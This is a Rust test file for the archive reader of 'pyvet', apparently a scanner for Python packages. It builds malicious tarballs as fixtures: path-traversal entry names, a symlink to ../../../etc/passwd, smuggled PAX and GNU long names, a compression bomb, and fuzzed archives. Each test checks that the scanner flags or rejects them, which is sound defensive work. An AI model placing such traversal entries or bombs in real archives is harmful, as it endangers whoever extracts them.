+// ------------------------------------------------------------------------------------------
+// Tarballs.
+
+struct T<'a> {
+    name: &'a [u8],
+    kind: tar::EntryType,
+    data: &'a [u8],
+    link: Option<&'a [u8]>,
+}
+
+fn t<'a>(name: &'a str, data: &'a [u8]) -> T<'a> {
+    T {
+        name: name.as_bytes(),
+        kind: tar::EntryType::Regular,
+        data,
+        link: None,
+    }
+}
+
+fn raw_tar(entries: &[T<'_>]) -> Vec<u8> {
+    let mut b = tar::Builder::new(Vec::new());
+    for e in entries {
+        append(&mut b, e.name, e.kind, e.data.len() as u64, e.data, e.link);
+    }
+    b.into_inner().unwrap()
+}
+
+fn append<W: Write>(
+    b: &mut tar::Builder<W>,
+    name: &[u8],
+    kind: tar::EntryType,
+    size: u64,
+    data: impl Read,
+    link: Option<&[u8]>,
+) {
+    let mut h = tar::Header::new_gnu();
+    {
+        let old = h.as_old_mut();
+        old.name = [0; 100];
+        old.name[..name.len()].copy_from_slice(name);
+    }
+    h.set_size(size);
+    h.set_mode(0o644);
+    h.set_entry_type(kind);
+    if let Some(l) = link {
+        h.set_link_name_literal(l).unwrap();
+    }
+    if matches!(kind, tar::EntryType::Char | tar::EntryType::Block) {
+        h.set_device_major(1).unwrap();
+        h.set_device_minor(3).unwrap();
+    }
+    h.set_cksum();
+    b.append(&h, data).unwrap();
+}
+
+fn gz(data: &[u8]) -> Vec<u8> {
+    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    e.write_all(data).unwrap();
+    e.finish().unwrap()
+}
+
+fn bz2(data: &[u8]) -> Vec<u8> {
+    let mut e = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::fast());
+    e.write_all(data).unwrap();
+    e.finish().unwrap()
+}
+
+fn xz(data: &[u8]) -> Vec<u8> {
+    let mut out = Vec::new();
+    lzma_rs::xz_compress(&mut &data[..], &mut out).unwrap();
+    out
+}
+
+const PKG_INFO: &[u8] = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nAuthor: Someone\n";
+
+fn sdist_tar() -> Vec<u8> {
+    raw_tar(&[
+        T {
+            kind: tar::EntryType::Directory,
+            ..t("demo-1.0/", b"")
+        },
+        t("demo-1.0/PKG-INFO", PKG_INFO),
+        t(
+            "demo-1.0/setup.py",
+            b"from setuptools import setup\nsetup()\n",
+        ),
+        t("./demo-1.0/demo/__init__.py", b"x = 1\n"),
+    ])
+}
+
+#[test]
+fn sdists_in_every_compression_read_alike() {
+    let tar = sdist_tar();
+    for (name, bytes) in [
+        ("demo-1.0.tar", tar.clone()),
+        ("demo-1.0.tar.gz", gz(&tar)),
+        ("demo-1.0.tgz", gz(&tar)),
+        ("demo-1.0.tar.bz2", bz2(&tar)),
+        ("demo-1.0.tar.xz", xz(&tar)),
+    ] {
+        let c = read(name, &bytes);
+        assert!(c.findings.is_empty(), "{name}: {:#?}", c.findings);
+        assert_eq!(
+            paths(&c),
+            vec![
+                "demo-1.0/PKG-INFO",
+                "demo-1.0/setup.py",
+                "demo-1.0/demo/__init__.py"
+            ],
+            "{name}"
+        );
+        assert_eq!(
+            c.entries[1].data,
+            b"from setuptools import setup\nsetup()\n"
+        );
+        let md = c.metadata.as_ref().expect(name);
+        assert_eq!(md.name.as_deref(), Some("demo"));
+        assert_eq!(md.author.as_deref(), Some("Someone"));
+    }
+}
+
+#[test]
+fn tar_links_devices_and_unsafe_names() {
+    use tar::EntryType as E;
+    let tar = raw_tar(&[
+        T {
+            kind: E::Symlink,
+            link: Some(b"../../../etc/passwd"),
+            ..t("demo/out", b"")
+        },
+        T {
+            kind: E::Symlink,
+            link: Some(b"README"),
+            ..t("demo/in", b"")
+        },
+        T {
+            kind: E::Link,
+            link: Some(b"demo/setup.py"),
+            ..t("demo/hard", b"")
+        },
+        T {
+            kind: E::Char,
+            ..t("demo/null", b"")
+        },
+        T {
+            kind: E::Fifo,
+            ..t("demo/fifo", b"")
+        },
+        t("../evil.py", b"x"),
+        t("/etc/passwd", b"x"),
+        t("C:\\x", b"x"),
+        T {
+            name: b"demo/\xff.py",
+            ..t("", b"x")
+        },
+        t("demo/setup.py", b"ok"),
+    ]);
+    let c = read("demo-1.0.tar.gz", &gz(&tar));
+    assert_eq!(paths(&c), vec!["demo/setup.py"]);
+    let sev = |rule: &str| -> Vec<Severity> {
+        c.findings
+            .iter()
+            .filter(|f| f.rule == rule)
+            .map(|f| f.severity)
+            .collect()
+    };
+    use Severity::*;
+    assert_eq!(
+        sev("archive-link"),
+        vec![High, Medium, Medium, High, Medium]
+    );
+    assert_eq!(sev("path-traversal"), vec![High; 4]);
+    let dev = c
+        .findings
+        .iter()
+        .find(|f| f.location.path.as_deref() == Some("demo/null"))
+        .unwrap();
+    assert!(dev.message.contains("device"));
+}
+
+#[test]
+fn pax_and_gnu_long_names_are_checked_not_the_short_header_name() {
+    use tar::EntryType as E;
+    let pax = b"19 path=../evil.py\n";
+    let long = b"../../long/evil.py\0";
+    let tar = raw_tar(&[
+        T {
+            kind: E::XHeader,
+            ..t("PaxHeader/safe.py", pax)
+        },
+        t("safe.py", b"import os"),
+        T {
+            kind: E::GNULongName,
+            ..t("././@LongLink", long)
+        },
+        t("short.py", b"import os"),
+        t("ok.py", b"ok"),
+    ]);
+    let c = read("x.tar.gz", &gz(&tar));
+    assert_eq!(paths(&c), vec!["ok.py"]);
+    let trav: Vec<_> = c
+        .findings
+        .iter()
+        .filter(|f| f.rule == "path-traversal")
+        .map(|f| f.location.path.clone().unwrap())
+        .collect();
+    assert_eq!(trav, vec!["../evil.py", "../../long/evil.py"]);
+}
+
+#[test]
+fn repetitive_findings_are_capped_with_a_summary() {
+    let names: Vec<String> = (0..35).map(|i| format!("zone/link{i}")).collect();
+    let mut entries: Vec<T<'_>> = vec![t("zone/UTC", b"TZif")];
+    entries.extend(names.iter().map(|n| T {
+        kind: tar::EntryType::Link,
+        link: Some(b"zone/UTC"),
+        ..t(n, b"")
+    }));
+    let c = read("tz-1.0.tar.gz", &gz(&raw_tar(&entries)));
+    let links: Vec<_> = c
+        .findings
+        .iter()
+        .filter(|f| f.rule == "archive-link")
+        .collect();
+    assert_eq!(links.len(), pyvet::archive::MAX_SIMILAR_FINDINGS + 1);
+    let summary = links.last().unwrap();
+    assert_eq!(summary.message, "15 more similar findings not listed");
+    assert_eq!(summary.severity, Severity::Medium);
+    assert_eq!(summary.location.path, None);
+}
+
+#[test]
+fn tar_bomb_is_stopped_early() {
+    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    {
+        let mut b = tar::Builder::new(&mut enc);
+        let size = 40u64 << 20;
+        append(
+            &mut b,
+            b"demo/zeros.py",
+            tar::EntryType::Regular,
+            size,
+            std::io::repeat(0).take(size),
+            None,
+        );
+        b.finish().unwrap();
+    }
+    let bytes = enc.finish().unwrap();
+    assert!(bytes.len() < 300_000, "{}", bytes.len());
+    let t = Instant::now();
+    let c = read("demo-1.0.tar.gz", &bytes);
+    assert!(t.elapsed() < Duration::from_secs(5));
+    let f = find(&c, "archive-bomb");
+    assert_eq!(f.severity, Severity::Critical, "{f:#?}");
+    assert!(c.entries.is_empty());
+}
+
+#[test]
+fn total_limit_stops_every_tar_compression_without_hanging() {
+    let mut x = 0x1234_5678_9ABC_DEF1u64;
+    let noise: Vec<u8> = (0..1_200_000)
+        .map(|_| {
+            x ^= x << 13;
+            x ^= x >> 7;
+            x ^= x << 17;
+            (x % 16) as u8
+        })
+        .collect();
+    let tar = raw_tar(&[t("d/noise.bin", &noise), t("d/after.py", b"x")]);
+    let limits = Limits {
+        max_total_size: 400_000,
+        ..Limits::default()
+    };
+    for (name, bytes) in [
+        ("d.tar", tar.clone()),
+        ("d.tar.gz", gz(&tar)),
+        ("d.tar.bz2", bz2(&tar)),
+        ("d.tar.xz", xz(&tar)),
+    ] {
+        let c = read_artifact(name, &bytes, &limits).unwrap();
+        let f = find(&c, "archive-bomb");
+        assert!(f.message.contains("total"), "{name}: {f:#?}");
+        assert!(c.entries.is_empty(), "{name}");
+    }
+}
+
+#[test]
+fn huge_gnu_long_name_is_not_read_into_memory() {
+    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    {
+        let mut b = tar::Builder::new(&mut enc);
+        let size = 20u64 << 20;
+        let long = std::io::repeat(b'a').take(size);
+        append(
+            &mut b,
+            b"././@LongLink",
+            tar::EntryType::GNULongName,
+            size,
+            long,
+            None,
+        );
+        append(&mut b, b"x.py", tar::EntryType::Regular, 1, &b"x"[..], None);
+        b.finish().unwrap();
+    }
+    let bytes = enc.finish().unwrap();
+    let c = read("x.tar.gz", &bytes);
+    let f = find(&c, "archive-bomb");
+    assert!(f.message.contains("long name"), "{f:#?}");
+    assert!(c.entries.is_empty());
+    // A long name of ordinary length is fine.
+    let mut b = tar::Builder::new(Vec::new());
+    let name = format!("demo-1.0/{}/mod.py", "d".repeat(150));
+    let mut h = tar::Header::new_gnu();
+    h.set_size(2);
+    b.append_data(&mut h, &name, &b"ok"[..]).unwrap();
+    let c = read("x.tar", &b.into_inner().unwrap());
+    assert!(c.findings.is_empty(), "{:#?}", c.findings);
+    assert_eq!(paths(&c), vec![name.as_str()]);
+}
+
+#[test]
+fn tar_header_lying_about_size_is_malformed_not_a_hang() {
+    // Declares 8 GiB but holds one block.
+    let mut h = tar::Header::new_gnu();
+    h.set_path("a.py").unwrap();
+    h.set_size(8 << 30);
+    h.set_cksum();
+    let mut bytes = h.as_bytes().to_vec();
+    bytes.extend_from_slice(&[b'x'; 512]);
+    let r = read_artifact("a.tar.gz", &gz(&bytes), &Limits::default());
+    assert!(matches!(r, Err(ArchiveError::Malformed { .. })), "{r:?}");
+}
+
+#[test]
+fn truncated_tarballs_are_malformed() {
+    let tar = sdist_tar();
+    for (name, bytes) in [
+        ("demo-1.0.tar.gz", gz(&tar)),
+        ("demo-1.0.tar.bz2", bz2(&tar)),
+        ("demo-1.0.tar.xz", xz(&tar)),
+    ] {
+        let cut = &bytes[..bytes.len() / 2];
+        match read_artifact(name, cut, &Limits::default()) {
+            Err(ArchiveError::Malformed { filename, .. }) => assert_eq!(filename, name),
+            other => panic!("{name}: {other:?}"),
+        }
+    }
+}
+
+#[test]
+fn tar_entry_limit() {
+    let names: Vec<String> = (0..3000).map(|i| format!("d/{i}.py")).collect();
+    let entries: Vec<T<'_>> = names.iter().map(|n| t(n, b"")).collect();
+    let limits = Limits {
+        max_entries: 100,
+        ..Limits::default()
+    };
+    let c = read_artifact("d.tar.gz", &gz(&raw_tar(&entries)), &limits).unwrap();
+    assert_eq!(c.entries.len(), 100);
+    assert_eq!(rules(&c), vec!["archive-bomb"]);
+}
+
+// ------------------------------------------------------------------------------------------
+// Directories.
+
+struct TempDir(std::path::PathBuf);
+
+impl TempDir {
+    fn new(tag: &str) -> Self {
+        let p = std::env::temp_dir().join(format!(
+            "pyvet-archive-test-{tag}-{}-{:?}",
+            std::process::id(),
+            std::thread::current().id()
+        ));
+        let _ = std::fs::remove_dir_all(&p);
+        std::fs::create_dir_all(&p).unwrap();
+        Self(p)
+    }
+}
+
+impl Drop for TempDir {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+#[cfg(unix)]
+#[test]
+fn directory_walk_never_follows_symlinks() {
+    let tmp = TempDir::new("walk");
+    let root = tmp.0.join("demo-1.0");
+    std::fs::create_dir_all(root.join("demo/sub")).unwrap();
+    std::fs::write(root.join("PKG-INFO"), PKG_INFO).unwrap();
+    std::fs::write(root.join("demo/__init__.py"), b"x = 1\n").unwrap();
+    std::fs::write(root.join("demo/sub/b.py"), b"y = 2\n").unwrap();
+    let secret = tmp.0.join("secret.txt");
+    std::fs::write(&secret, b"outside").unwrap();
+    std::os::unix::fs::symlink(&secret, root.join("demo/leak.txt")).unwrap();
+    std::os::unix::fs::symlink("sub/b.py", root.join("demo/alias.py")).unwrap();
+    std::os::unix::fs::symlink(&tmp.0, root.join("demo/loop")).unwrap();
+    let c = read_path(&root, &Limits::default()).unwrap();
+    assert_eq!(c.filename, "demo-1.0");
+    assert_eq!(
+        paths(&c),
+        vec!["PKG-INFO", "demo/__init__.py", "demo/sub/b.py"]
+    );
+    assert!(c.entries.iter().all(|e| e.data != b"outside"));
+    let links: Vec<_> = c
+        .findings
+        .iter()
+        .filter(|f| f.rule == "archive-link")
+        .map(|f| (f.location.path.clone().unwrap(), f.severity))
+        .collect();
+    assert_eq!(
+        links,
+        vec![
+            ("demo/alias.py".to_string(), Severity::Medium),
+            ("demo/leak.txt".to_string(), Severity::High),
+            ("demo/loop".to_string(), Severity::High),
+        ]
+    );
+    assert_eq!(c.metadata.unwrap().version.as_deref(), Some("1.0"));
+    // read_path on a file reads it as an artifact.
+    let whl = tmp.0.join(WHEEL);
+    std::fs::write(&whl, zip(&wheel_entries(&[("demo/a.py", b"")]))).unwrap();
+    let c = read_path(&whl, &Limits::default()).unwrap();
+    assert_eq!(c.filename, WHEEL);
+    assert!(c.findings.is_empty());
+    assert!(matches!(
+        read_path(&tmp.0.join("missing.whl"), &Limits::default()),
+        Err(ArchiveError::Io { .. })
+    ));
+}
+
+// ------------------------------------------------------------------------------------------
+// Hostile bytes: mutate generated archives and require only that reading returns.
+
+#[test]
+fn mutated_archives_never_panic() {
+    let wheel = zip(&wheel_entries(&[
+        ("demo/__init__.py", b"import os\nprint(os.getcwd())\n"),
+        ("demo/data.txt", &[b'z'; 3000]),
+    ]));
+    let wheel64 = zip_with(
+        &wheel_entries(&[("demo/a.py", b"a")]),
+        &ZipOpts {
+            zip64: true,
+            prefix: b"junk".to_vec(),
+            ..Default::default()
+        },
+    );
+    let tar = sdist_tar();
+    let corpus: Vec<(&str, Vec<u8>)> = vec![
+        (WHEEL, wheel),
+        (WHEEL, wheel64),
+        ("demo-1.0.tar", tar.clone()),
+        ("demo-1.0.tar.gz", gz(&tar)),
+        ("demo-1.0.tar.bz2", bz2(&tar)),
+        ("demo-1.0.tar.xz", xz(&tar)),
+    ];
+    let limits = Limits {
+        max_total_size: 1 << 20,
+        max_file_size: 1 << 19,
+        ..Limits::default()
+    };
+    let mut x = 0x2545_F491_4F6C_DD1Du64;
+    let mut next = move || {
+        x ^= x << 13;
+        x ^= x >> 7;
+        x ^= x << 17;
+        x
+    };
+    let t = Instant::now();
+    let mut ok = 0;
+    for round in 0..1200 {
+        let (name, base) = &corpus[round % corpus.len()];
+        let mut bytes = base.clone();
+        match next() % 4 {
+            0 => bytes.truncate((next() as usize) % (bytes.len() + 1)),
+            1 => {
+                for _ in 0..1 + next() % 8 {
+                    let i = next() as usize % bytes.len();
+                    bytes[i] ^= 1 << (next() % 8);
+                }
+            }
+            2 => {
+                // Overwrite a little-endian field with an extreme value.
+                let i = next() as usize % bytes.len().saturating_sub(4).max(1);
+                let v = [0xFFu8, 0xFF, 0xFF, 0xFF];
+                let end = (i + 4).min(bytes.len());
+                bytes[i..end].copy_from_slice(&v[..end - i]);
+            }
+            _ => {
+                let i = next() as usize % bytes.len();
+                let j = next() as usize % bytes.len();
+                let (a, b) = (i.min(j), i.max(j));
+                bytes.drain(a..b.min(a + 64));
+            }
+        }
+        if read_artifact(name, &bytes, &limits).is_ok() {
+            ok += 1;
+        }
+    }
+    // Both outcomes must occur, or the mutations are not exercising anything.
+    assert!(ok > 0 && ok < 1200, "{ok}");
+    assert!(t.elapsed() < Duration::from_secs(30));
+}
+
+/// Manual check on real artifacts (not in CI: needs files from outside):
+/// `PYVET_ARCHIVE_FILES=a.whl:b.tar.gz cargo test --test archive_formats real -- --ignored --nocapture`
+#[test]
+#[ignore]
+fn real_artifacts_from_env() {
+    let Ok(list) = std::env::var("PYVET_ARCHIVE_FILES") else {
+        return;
+    };
+    for p in list.split(':').filter(|p| !p.is_empty()) {
+        let path = std::path::Path::new(p);
+        let Ok(bytes) = std::fs::read(path) else {
+            continue;
+        };
+        let name = path.file_name().unwrap().to_string_lossy().into_owned();
+        let t = Instant::now();
+        let out = match read_artifact_with(&name, &bytes, &ReadOptions::default()) {
+            Ok(out) => out,
+            Err(e) => {
+                println!("{name}: error: {e}");
+                continue;
+            }
+        };
+        let kept: usize = out.contents.entries.iter().map(|e| e.data.len()).sum();
+        println!(
+            "{name}: {} entries, {} bytes inflated, {kept} kept, {} partial, {:?}",
+            out.contents.entries.len(),
+            out.total_size,
+            out.partial.len(),
+            t.elapsed()
+        );
+        for f in &out.contents.findings {
+            println!(
+                "  {} {} {:?} {}",
+                f.severity, f.rule, f.location.path, f.message
+            );
+        }
+        println!(
+            "  metadata: {:?}",
+            out.contents
+                .metadata
+                .as_ref()
+                .map(|m| (&m.name, &m.version))
+        );
+    }
+}
